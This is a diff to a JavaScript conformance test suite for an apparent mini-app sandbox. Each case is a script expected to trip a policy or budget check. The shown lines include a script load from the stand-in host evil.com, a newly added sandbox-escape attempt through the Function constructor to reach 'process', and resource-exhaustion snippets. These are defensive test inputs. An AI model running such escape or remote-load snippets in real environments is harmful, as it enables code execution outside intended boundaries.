@@ -46,6 +46,7 @@ describe('conformance', () => {
     ['a classic script from outside allowedDomains', 'document.head.appendChild(Object.assign(document.createElement("script"), { src: "https://evil.com/x.js" }));', {}, { 'policy.network': 'DOMAIN_NOT_ALLOWED' }],
     ['start-up over budget', 'const end = Date.now() + 150; while (Date.now() < end);', { startupBudgetMs: 50 }, { 'budget.startup': 'CONFORMANCE_STARTUP_OVER_BUDGET' }],
     ['memory over the limit', 'window.keep = []; setTimeout(function grow() { keep.push(new ArrayBuffer(4 << 20)); setTimeout(grow, 2); }, 0);', { memoryMb: 32 }, { 'budget.memory': 'APP_LIMIT_EXCEEDED' }],
+    ['an escape attempt the sandbox stopped', 'try { document.constructor.constructor("return process")(); } catch {}', {}, { 'policy.escape-attempts': 'RUN_ESCAPE_ATTEMPT' }],
     ['storage over quota', 'MiniAppBridge.call("storage.set", { key: "big", value: "x".repeat(5000) }).catch(() => {});', { storageQuotaBytes: 1000 }, { 'budget.storage': 'QUOTA_EXCEEDED' }],
   ])('fails on %s', async (_name, script, extra, expected) => {
     const r = await conform(project(script), extra);
